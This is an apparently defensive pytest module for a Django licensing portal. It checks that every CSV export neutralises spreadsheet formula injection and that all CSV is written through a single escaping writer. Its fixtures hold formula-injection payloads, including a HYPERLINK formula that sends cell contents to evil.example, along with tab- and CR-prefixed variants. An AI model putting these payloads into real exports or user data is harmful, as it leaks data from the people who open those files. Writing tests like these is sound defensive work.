"""Every CSV export of the project is safe to open (docs/exports.md).

Two organisations' worth of data carry formula-bearing values in every free-text field that
reaches an export; each export is downloaded as a role that reads it, and no cell may start
with = + - @ tab or CR unless it is a plain number, while the typed values show up neutralised.

The list of exports is complete by construction: the views that call the one writer are found
by reading the project's source (``exporting_views``), and a test fails when one of them is not
downloaded here. A second reading fails on any CSV written without the writer."""

import ast
import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import time_machine
from django.db import transaction
from django.urls import URLPattern, URLResolver, get_resolver, resolve

from billing.columns import FileKind
from billing.services import reconciliation_import_create_by_operator, reconciliation_import_run
from licensing import services as licensing_services
from licensing.choices import BillingType, Program
from licensing.models import CostCenter, License, Subscription
from msp_portal.csv_export import is_plain_number
from msp_portal.tenancy.models import Organisation
from msp_portal.tenancy.resolve import resolve_tenant
from reports import services as report_services
from reports.accounts import account_settings_update
from reports.models import UsageReportLine

from .billing.files import csv_bytes, daily_usage_row
from .conftest import World, make_side
from .factories import MembershipFactory, UserFactory
from .invoicing.formula_side import invoicing_side

ROOT = Path(__file__).resolve().parent.parent
PROJECT_PACKAGES = ("config", "msp_portal", "reports", "licensing", "billing", "invoicing")
WRITER = Path("msp_portal/csv_export.py")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Licenses are bought and assigned in October 2026; the October report is opened, submitted
# and downloaded in November, within the MSP's 12-month list.
OCTOBER = dt.datetime(2026, 10, 12, 9, 30, tzinfo=dt.UTC)
pytestmark = pytest.mark.now("2026-10-12T09:35:00+00:00")  # the downloads, just after the data
NOW = dt.datetime(2026, 11, 10, 9, 30, tzinfo=dt.UTC)
CYCLE = dt.date(2026, 10, 1)


def long_formula(trigger: str, tag: str) -> str:
    return f'{trigger}HYPERLINK("http://evil.example/?leak="&A1,"{tag}")'


def short_formula(trigger: str, tag: str) -> str:
    """For the short columns (a cost center code holds 32 characters, an extension 20)."""
    return f"{trigger}1+{tag}"


def as_tenant(user, organisation):
    return resolve_tenant(user=user, org_slug=organisation.slug)


def build_side(side, label: str, clock) -> dict:
    """Formula-bearing values in every free-text field of one side that reaches an export,
    typed through the services where a person types them. Returns what each field holds, keyed
    by field (plus the composed cells: a full name, a cost-center allocation)."""
    typed = {
        "msp_name": long_formula("=", f"msp-{label}"),
        "dist_name": long_formula("@", f"dist-{label}"),
        "buyer_email": f"=1+buyer-{label}@{label}.example",
        "buyer_first": long_formula("+", f"buyer-{label}"),
        "dist_admin_email": f"-dist.admin-{label}@{label}.example",
        "dist_admin_first": long_formula("=", f"dist-admin-{label}"),
        "cc_code": short_formula("@", f"cc-{label}"),
        "cc_name": long_formula("-", f"cc-name-{label}"),
        "sub_cc_code": short_formula("+", f"sub-{label}"),
        "sub_cc_name": "\r" + short_formula("=", f"cr-cc-{label}"),
        "product_code": short_formula("+", f"prd-{label}"),
        "sku": short_formula("=", f"sku-{label}"),
        "product_name": long_formula("=", f"product-{label}"),
        "publisher": long_formula("@", f"publisher-{label}"),
        "unit_type": short_formula("-", f"unit-{label}"),
        "assignee_name": long_formula("-", f"assignee-{label}"),
        "assignee_email": f"+1+assignee-{label}@customer.example",
        "extension": short_formula("+", f"ext-{label}"),
        "tab_assignee": "\t" + long_formula("=", f"tab-{label}"),
        "cr_extension": "\r" + short_formula("-", f"cr-{label}"),
        "po_number": long_formula("=", f"po-{label}"),
        "note": long_formula("@", f"note-{label}"),
        "comment": long_formula("+", f"comment-{label}"),
        "import_file": long_formula("=", f"import-{label}") + ".csv",
        "import_column": short_formula("@", f"col-{label}"),
    }
    Organisation.objects.filter(pk=side.msp.pk).update(name=typed["msp_name"])
    Organisation.objects.filter(pk=side.distributor.pk).update(name=typed["dist_name"])
    side.msp.refresh_from_db()
    side.distributor.refresh_from_db()

    # People's names come from the admin or their profile: no service strips or checks them.
    buyer = UserFactory(email=typed["buyer_email"], first_name=typed["buyer_first"], last_name="Buyer")
    MembershipFactory(organisation=side.msp, user=buyer, role="msp_admin")
    dist_admin = UserFactory(
        email=typed["dist_admin_email"], first_name=typed["dist_admin_first"], last_name="Admin"
    )
    MembershipFactory(organisation=side.distributor, user=dist_admin, role="dist_admin")
    msp_tenant = as_tenant(buyer, side.msp)
    dist_tenant = as_tenant(dist_admin, side.distributor)

    product = licensing_services.product_save(
        tenant=dist_tenant,
        product_code=typed["product_code"],
        sku_code=typed["sku"],
        name=typed["product_name"],
        publisher=typed["publisher"],
        unit_type=typed["unit_type"],
        unit_price=Decimal("12.50"),
        # The MSP's own currency, whatever the rule for selling in another one.
        currency=side.msp.currency,
        billing_type=BillingType.LICENSE,
        program=Program.TRUE_UP,
    )
    center = licensing_services.cost_center_save(
        tenant=msp_tenant, code=typed["cc_code"], name=typed["cc_name"]
    )
    sub_center = licensing_services.cost_center_save(
        tenant=msp_tenant, code=typed["sub_cc_code"], name="Sub", parent_id=center.pk
    )
    licensing_services.purchase_confirm(
        tenant=msp_tenant,
        acting_user=buyer,
        lines=[
            licensing_services.PurchaseRequestLine(
                product_id=product.pk, quantity=3, allocations=[(center.pk, 2), (sub_center.pk, 1)]
            )
        ],
        acknowledged=True,
        idempotency_key=f"formula-{label}",
    )
    subscription = Subscription.objects.for_tenant(side.msp).get(product=product)
    for assignee in (
        licensing_services.Assignee(typed["assignee_name"], typed["assignee_email"], typed["extension"]),
        licensing_services.Assignee("Second seat"),
    ):
        licensing_services.license_assign(
            tenant=msp_tenant,
            acting_user=buyer,
            subscription_id=subscription.pk,
            assignee=assignee,
            cost_center_id=center.pk,
        )
    # The services strip surrounding whitespace; a leading tab or CR still arrives through the
    # Django admin or a direct import, and the writer must not care where a value came from.
    License.objects.for_tenant(side.msp).filter(assignee_name="Second seat").update(
        assignee_name=typed["tab_assignee"], assignee_extension=typed["cr_extension"]
    )
    CostCenter.objects.for_tenant(side.msp).filter(pk=sub_center.pk).update(name=typed["sub_cc_name"])

    account_settings_update(
        tenant=dist_tenant, acting_user=dist_admin, msp_id=side.msp.pk, data={"auto_submit_days": 12}
    )
    # The October report opens from licensing once October has ended, as the hourly job does;
    # its lines copy the product's typed name, SKU and unit type.
    clock.move_to(NOW)
    [opened] = report_services.usage_reports_open_from_licensing(msp=side.msp, cycles=[CYCLE])
    report = opened.report
    line = UsageReportLine.objects.for_tenant(side.msp).get(report=report)
    report_services.line_comment_add(
        tenant=msp_tenant, acting_user=buyer, report_id=report.pk, line_id=line.pk, body=typed["comment"]
    )
    report_services.usage_report_submit(
        tenant=msp_tenant,
        acting_user=buyer,
        report_id=report.pk,
        po_number=typed["po_number"],
        note=typed["note"],
    )
    # A reconciliation file named with a formula, whose header holds an unknown column that is one
    # too: refused, so its problems' CSV names that column.
    data = csv_bytes([{**daily_usage_row(), typed["import_column"]: "x"}])
    refused = reconciliation_import_create_by_operator(
        organisation=side.msp, kind=FileKind.DAILY_USAGE, file_name=typed["import_file"], size_bytes=len(data)
    )
    reconciliation_import_run(import_id=refused.pk, organisation=side.msp, raw=io.BytesIO(data))
    invoicing = invoicing_side(side, label, buyer, long_formula)
    return {
        **typed,
        "credit_reason": invoicing["credit_reason"],
        "buyer_full_name": f"{typed['buyer_first']} Buyer",
        "dist_admin_full_name": f"{typed['dist_admin_first']} Admin",
        "allocation": f"{typed['cc_code']}: 2; {typed['sub_cc_code']}: 1",
        "ids": {
            "subscription": subscription.pk,
            "report": report.pk,
            "import": refused.pk,
            "invoice": invoicing["invoice_id"],
        },
    }


@pytest.fixture(scope="module")
def formula_world(django_db_setup, django_db_blocker):
    """Both sides' formula-bearing data, built once for the module (a quarter of a second) in
    October, inside a transaction rolled back after the module; each test reads it in its own
    savepoint (``db``), on the clock of ``pytestmark``."""
    with (
        time_machine.travel(OCTOBER, tick=True) as clock,
        django_db_blocker.unblock(),
        transaction.atomic(),
    ):
        world = World(a=make_side("a"), b=make_side("b"))
        a = build_side(world.a, "a", clock)
        clock.move_to(OCTOBER)
        b = build_side(world.b, "b", clock)
        yield {"a": (world.a, a), "b": (world.b, b)}
        transaction.set_rollback(True)


@dataclass(frozen=True)
class Export:
    """One CSV download: its path (``{msp}``, ``{dist}``, ``{subscription}``, ``{report}``
    filled per side), who downloads it, and the typed values it must show (neutralised)."""

    path: str
    role: str
    shows: tuple[str, ...]
    money: tuple[tuple[str, Decimal], ...] = ()


EXPORTS = {
    "members of an MSP": Export(
        "/o/{msp}/members/?format=csv", "msp_viewer", ("buyer_email", "buyer_full_name")
    ),
    "members of a distributor": Export(
        "/o/{dist}/members/?format=csv", "dist_reviewer", ("dist_admin_email", "dist_admin_full_name")
    ),
    "cost centers": Export(
        "/o/{msp}/licensing/cost-centers/?format=csv",
        "msp_viewer",
        ("cc_code", "cc_name", "sub_cc_code", "sub_cc_name"),
    ),
    "licenses": Export(
        "/o/{msp}/licensing/?format=csv",
        "msp_viewer",
        (
            "product_name",
            "sku",
            "assignee_name",
            "assignee_email",
            "extension",
            "cc_code",
            "tab_assignee",
            "cr_extension",
        ),
    ),
    "subscription history (page)": Export(
        "/o/{msp}/licensing/subscriptions/{subscription}/history.csv", "msp_viewer", ()
    ),
    "subscription history (API)": Export(
        "/api/v1/orgs/{msp}/subscriptions/{subscription}/history.csv", "msp_viewer", ()
    ),
    "bulk-assign template": Export(
        "/o/{msp}/licensing/bulk-assign/bulk-assign-template.csv", "msp_admin", ()
    ),
    "purchases": Export(
        "/o/{msp}/shop/purchases/?format=csv",
        "msp_viewer",
        ("buyer_email", "product_code", "sku", "product_name", "allocation"),
        money=(("Unit price", Decimal("12.50")), ("Line total", Decimal("37.50"))),
    ),
    "catalog read by an MSP": Export(
        "/o/{msp}/shop/?format=csv",
        "msp_viewer",
        ("product_code", "sku", "product_name", "publisher", "unit_type"),
        money=(("Unit price", Decimal("12.50")),),
    ),
    "catalog of a distributor": Export(
        "/o/{dist}/shop/?format=csv",
        "dist_admin",
        ("product_code", "sku", "product_name", "publisher", "unit_type"),
    ),
    "MSP account settings": Export(
        "/o/{dist}/reports/accounts/?format=csv", "dist_reviewer", ("msp_name", "dist_admin_email")
    ),
    "usage reports of an MSP": Export(
        "/o/{msp}/reports/?format=csv",
        "msp_billing",
        ("msp_name", "po_number"),
        money=(("Amount", Decimal("25.00")),),
    ),
    "review queue of a distributor": Export(
        "/o/{dist}/reports/?format=csv",
        "dist_reviewer",
        ("msp_name", "po_number"),
        money=(("Amount", Decimal("25.00")),),
    ),
    "usage report read by its MSP": Export(
        "/o/{msp}/reports/{report}/?format=csv",
        "msp_viewer",
        ("product_code", "sku", "product_name", "unit_type"),
        money=(("Unit price", Decimal("12.50")), ("Amount", Decimal("25.00"))),
    ),
    "reconciliation imports": Export("/o/{msp}/billing/imports/?format=csv", "msp_viewer", ("import_file",)),
    "problems of a refused import": Export(
        "/o/{msp}/billing/imports/{import}/problems.csv", "msp_viewer", ("import_column",)
    ),
    "usage report read by its distributor": Export(
        "/o/{dist}/reports/{report}/?format=csv",
        "dist_reviewer",
        ("product_code", "sku", "product_name", "unit_type"),
    ),
    # Invoicing: an approved September report's invoice (two licenses at 12.50), credited in full.
    "invoices of an MSP": Export(
        "/o/{msp}/invoices/?format=csv", "msp_billing", ("msp_name",), money=(("Total", Decimal("25.00")),)
    ),
    "invoices of a distributor": Export(
        "/o/{dist}/invoices/?format=csv",
        "dist_reviewer",
        ("msp_name",),
        money=(("Credited", Decimal("25.00")),),
    ),
    "lines of an invoice": Export(
        "/o/{msp}/invoices/{invoice}/lines.csv",
        "msp_admin",
        ("product_code", "product_name"),
        money=(("Amount", Decimal("25.00")),),
    ),
    "credit notes": Export(
        "/o/{dist}/invoices/credit-notes/?format=csv", "dist_admin", ("msp_name", "credit_reason")
    ),
    "true-ups of a distributor's MSPs": Export(
        "/o/{dist}/invoices/true-ups/?format=csv",
        "dist_reviewer",
        ("msp_name", "product_name"),
        money=(("Amount", Decimal("12.50")),),
    ),
}


def is_dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not is_plain_number(cell)


def download(client, path: str) -> tuple[str, list[list[str]]]:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    assert response["Content-Type"] == "text/csv; charset=utf-8", path
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), f"{path}: no byte order mark"
    return body, list(csv.reader(io.StringIO(body[1:], newline="")))


@pytest.mark.parametrize("name", EXPORTS)
def test_every_cell_of_every_export_is_safe_to_open(name, formula_world, db, login):
    export = EXPORTS[name]
    for label, other in (("a", "b"), ("b", "a")):
        side, typed = formula_world[label]
        path = export.path.format(msp=side.msp.slug, dist=side.distributor.slug, **typed["ids"])
        body, rows = download(login(side.users[export.role]), path)
        assert rows, f"{name}: an empty file"
        dangerous = [(number, cell) for number, row in enumerate(rows) for cell in row if is_dangerous(cell)]
        assert dangerous == [], f"{name}: cells a spreadsheet would run as formulas"

        cells = {cell for row in rows for cell in row}
        for field in export.shows:
            assert "'" + typed[field] in cells, f"{name}: {field} is not in the export, neutralised"
        # Numbers stay numbers: money is a plain decimal a spreadsheet sums.
        for column, amount in export.money:
            index = rows[0].index(column)
            values = [row[index] for row in rows[1:] if row[index]]
            assert values and all(is_plain_number(value) for value in values), (name, column, values)
            assert Decimal(values[0]) == amount, (name, column, values)
        # The other organisation's values never appear (each side's payloads are distinct).
        _, theirs = formula_world[other]
        leaked = [field for field in export.shows if theirs[field] in body]
        assert leaked == [], f"{name}: {label} downloads {other}'s {leaked}"


# --- completeness by construction ---------------------------------------------------------------


def project_sources():
    for package in PROJECT_PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            yield path.relative_to(ROOT), path.read_text(encoding="utf-8")


def _calls_the_writer(node: ast.AST, names: set[str]) -> bool:
    for call in ast.walk(node):
        if isinstance(call, ast.Call):
            func = call.func
            if (isinstance(func, ast.Name) and func.id in names) or (
                isinstance(func, ast.Attribute) and func.attr == "csv_response"
            ):
                return True
    return False


def exporting_views() -> set[str]:
    """``module.Name`` of each top-level class or function of the project that calls the writer
    (``csv_response``, under any name it was imported as)."""
    found = set()
    for relative, source in project_sources():
        if relative == WRITER:
            continue
        tree = ast.parse(source)
        names = {"csv_response"} | {
            alias.asname
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom) and node.module == "msp_portal.csv_export"
            for alias in node.names
            if alias.name == "csv_response" and alias.asname
        }
        module = ".".join(relative.with_suffix("").parts)
        for node in tree.body:
            if isinstance(node, ast.ClassDef | ast.FunctionDef) and _calls_the_writer(node, names):
                found.add(f"{module}.{node.name}")
    return found


def view_name(func) -> str:
    view = getattr(func, "view_class", None) or getattr(func, "cls", None) or func
    return f"{view.__module__}.{view.__qualname__}"


def served_path(export: Export) -> str:
    ids = {"subscription": 1, "report": 1, "import": 1, "invoice": 1}
    return urlsplit(export.path.format(msp="msp-x", dist="dist-x", **ids)).path


def test_the_source_reading_finds_the_known_exporters():
    # Guards the guard: were the reading blind, the next test would pass on an empty set.
    views = exporting_views()
    assert {
        "licensing.views.licenses.LicenseListView",
        "licensing.api.views.subscriptions.HistoryCsvView",
        "msp_portal.tenancy.views.MemberListView",
        "reports.views.ReportDetailView",
    } <= views


def test_every_view_that_writes_csv_is_downloaded_above():
    downloaded = {view_name(resolve(served_path(export)).func) for export in EXPORTS.values()}
    missing = exporting_views() - downloaded
    assert missing == set(), (
        f"{sorted(missing)} call csv_response but no download in EXPORTS reaches them: add one, "
        "with formula-bearing values in the fields it shows (or, for a helper that is not a "
        "view, let the views call it and add theirs)"
    )


def _url_patterns(resolver: URLResolver, prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _url_patterns(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern


def test_every_url_that_names_csv_is_served_by_the_writer():
    exporters = exporting_views()
    csv_routes = {
        route: view_name(pattern.callback)
        for route, pattern in _url_patterns(get_resolver())
        if ".csv" in route or (pattern.name or "").endswith(("-csv", "-export", "-template"))
    }
    assert csv_routes, "no CSV route found: the URL walk is blind"
    assert {route: view for route, view in csv_routes.items() if view not in exporters} == {}


# --- no CSV without the writer ------------------------------------------------------------------

CSV_WRITERS = {"writer", "DictWriter"}
DATAFRAME_WRITERS = {"to_csv", "write_csv"}


def csv_bypasses(source: str) -> list[str]:
    """Each place in ``source`` that writes CSV or answers with ``text/csv`` other than through
    msp_portal/csv_export.py: the csv module's writers (however imported), a dataframe's CSV
    writer, and the ``text/csv`` media type. Two uses of the media type write nothing and pass:
    an OpenAPI response key such as ``(200, "text/csv")`` and a file input's ``accept``."""
    tree = ast.parse(source)
    parents = {child: node for node in ast.walk(tree) for child in ast.iter_child_nodes(node)}
    csv_modules = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name == "csv"
    }
    found = []
    for node in ast.walk(tree):
        where = f"line {getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{where}: from csv import {a.name}" for a in node.names if a.name in CSV_WRITERS | {"*"}
            ]
        elif isinstance(node, ast.Attribute):
            if isinstance(node.value, ast.Name) and node.value.id in csv_modules and node.attr in CSV_WRITERS:
                found.append(f"{where}: csv.{node.attr}")
            elif node.attr in DATAFRAME_WRITERS:
                found.append(f"{where}: .{node.attr}")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value:
            parent = parents.get(node)
            openapi_key = isinstance(parent, ast.Tuple) and any(
                isinstance(e, ast.Constant) and isinstance(e.value, int) for e in parent.elts
            )
            accept_attribute = isinstance(parent, ast.Dict) and any(
                value is node and isinstance(key, ast.Constant) and key.value == "accept"
                for key, value in zip(parent.keys, parent.values, strict=True)
            )
            if not (openapi_key or accept_attribute):
                found.append(f"{where}: {node.value!r}")
    return found


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(out)",
        "import csv as c\nw = c.DictWriter(out, fieldnames=[])",
        "from csv import writer\n",
        "from csv import DictWriter as W\n",
        "from csv import *\n",
        "HttpResponse(body, content_type='text/csv')",
        "response['Content-Type'] = 'text/csv; charset=utf-8'",
        "class R:\n    media_type = 'text/csv'",
        "frame.to_csv(buffer)",
    ],
)
def test_the_guard_catches_csv_written_without_the_writer(source):
    assert csv_bypasses(source) != []


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nrows = csv.DictReader(text)\nn = csv.field_size_limit()",
        "from csv import DictReader, reader\n",
        "extend_schema(responses={(200, 'text/csv'): OpenApiResponse(str)})",
        "ClearableFileInput(attrs={'accept': '.csv,text/csv'})",
        "from msp_portal.csv_export import csv_response\nresponse = csv_response('x.csv', [], [])",
    ],
)
def test_the_guard_lets_readers_and_descriptions_through(source):
    assert csv_bypasses(source) == []


def test_no_csv_is_written_outside_the_one_writer():
    bypasses = {
        str(relative): found
        for relative, source in project_sources()
        if relative != WRITER and (found := csv_bypasses(source))
    }
    assert bypasses == {}, "write CSV through msp_portal.csv_export.csv_response (docs/exports.md)"
